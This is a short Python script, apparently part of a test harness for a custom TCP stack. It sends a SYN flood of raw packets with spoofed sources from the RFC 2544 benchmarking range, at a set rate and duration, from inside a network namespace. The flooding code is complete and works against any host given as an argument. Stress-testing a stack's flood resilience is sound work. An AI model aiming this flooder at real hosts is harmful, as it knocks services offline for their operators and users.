"""A SYN flood from inside a network namespace: raw IPv4 SYNs from random sources in 198.18.0.0/15 (RFC 2544's
benchmarking range) at a target rate, for a number of seconds. Prints one JSON line: {"sent": n, "rate": r}.

    flood.py HOST PORT RATE SECONDS
"""

import json
import random
import socket
import sys
import time

from stack.wire import SYN, TcpOptions, TcpSegment, build_tcp_packet

UNIQUE = 20_000  # distinct SYNs, sent round and round


def main() -> None:
    host, port, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    rng = random.Random(1)
    dst = socket.inet_aton(host)
    packets = []
    for _ in range(UNIQUE):
        src = bytes([198, 18 + rng.getrandbits(1), rng.getrandbits(8), rng.randint(1, 254)])
        seg = TcpSegment(rng.randint(1024, 65535), port, rng.getrandbits(32), 0, SYN, 64240, b"", TcpOptions(mss=1460))
        packets.append(build_tcp_packet(seg, src, dst))
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL implied
    per_tick, tick = max(rate // 100, 1), 0.01
    sent, start = 0, time.perf_counter()
    while (elapsed := time.perf_counter() - start) < seconds:
        due = int(elapsed * rate)
        while sent < due:
            for _ in range(min(per_tick, due - sent)):
                try:
                    sock.sendto(packets[sent % UNIQUE], (host, 0))
                except OSError:
                    pass  # ENOBUFS: the flood outruns the device; count it as sent anyway, as an attacker would
                sent += 1
        time.sleep(tick)
    elapsed = time.perf_counter() - start
    print(json.dumps({"sent": sent, "rate": sent / elapsed}), flush=True)


if __name__ == "__main__":
    main()
